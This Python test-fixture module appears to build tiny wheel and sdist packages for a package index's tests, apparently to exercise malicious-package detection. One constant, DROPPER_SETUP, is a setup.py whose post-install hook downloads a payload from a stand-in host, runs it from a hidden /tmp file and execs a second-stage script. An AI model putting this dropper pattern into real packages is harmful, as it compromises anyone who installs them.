"""Tiny real distributions built in memory for the index tests (inert code only)."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import time
import zipfile

from packaging.utils import canonicalize_name


def _metadata(name: str, version: str, summary: str = "A test package") -> str:
    return (
        "Metadata-Version: 2.1\n"
        f"Name: {name}\n"
        f"Version: {version}\n"
        f"Summary: {summary}\n"
        "Author: Test Author\n"
        "Requires-Python: >=3.8\n"
        "\n"
        "Long description.\n"
    )


def module_name(name: str) -> str:
    return canonicalize_name(name).replace("-", "_")


def wheel_filename(name: str, version: str) -> str:
    return f"{module_name(name)}-{version}-py3-none-any.whl"


def sdist_filename(name: str, version: str) -> str:
    return f"{module_name(name)}-{version}.tar.gz"


def build_wheel(name: str, version: str, code: str = "VALUE = 1\n") -> bytes:
    mod = module_name(name)
    distinfo = f"{mod}-{version}.dist-info"
    files = {
        f"{mod}/__init__.py": code.encode(),
        f"{distinfo}/METADATA": _metadata(name, version).encode(),
        f"{distinfo}/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: snakewarden-tests\nRoot-Is-Purelib: true\n"
            b"Tag: py3-none-any\n"
        ),
        f"{distinfo}/top_level.txt": f"{mod}\n".encode(),
    }
    record_lines = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record_lines.append(f"{path},sha256={digest},{len(data)}")
    record_lines.append(f"{distinfo}/RECORD,,")
    files[f"{distinfo}/RECORD"] = ("\n".join(record_lines) + "\n").encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in files.items():
            info = zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


BENIGN_SETUP = "from setuptools import setup\n\nsetup()\n"

#: An install-time dropper, inert: the host does not exist and nothing here is ever run.
DROPPER_SETUP = """\
import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        payload = urllib.request.urlopen("https://example.invalid/x").read()
        with open("/tmp/.cache-x", "wb") as fh:
            fh.write(payload)
        os.system("chmod +x /tmp/.cache-x && /tmp/.cache-x &")
        exec(urllib.request.urlopen("https://example.invalid/stage2.py").read())


setup(name="NAME", version="VERSION", cmdclass={"install": PostInstall})
"""


def build_sdist(name: str, version: str, setup_py: str = BENIGN_SETUP) -> bytes:
    mod = module_name(name)
    root = f"{mod}-{version}"
    files = {
        f"{root}/PKG-INFO": _metadata(name, version).encode(),
        f"{root}/setup.py": setup_py.replace("NAME", name).replace("VERSION", version).encode(),
        f"{root}/{mod}/__init__.py": b"VALUE = 1\n",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mtime = int(time.time())
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def upload_fields(name: str, version: str, filename: str, data: bytes) -> dict[str, str]:
    """The form fields twine sends with a file."""
    return {
        ":action": "file_upload",
        "protocol_version": "1",
        "metadata_version": "2.1",
        "name": name,
        "version": version,
        "filetype": "bdist_wheel" if filename.endswith(".whl") else "sdist",
        "pyversion": "py3" if filename.endswith(".whl") else "source",
        "summary": "A test package",
        "requires_python": ">=3.8",
        "sha256_digest": hashlib.sha256(data).hexdigest(),
        "md5_digest": hashlib.md5(data, usedforsecurity=False).hexdigest(),
    }
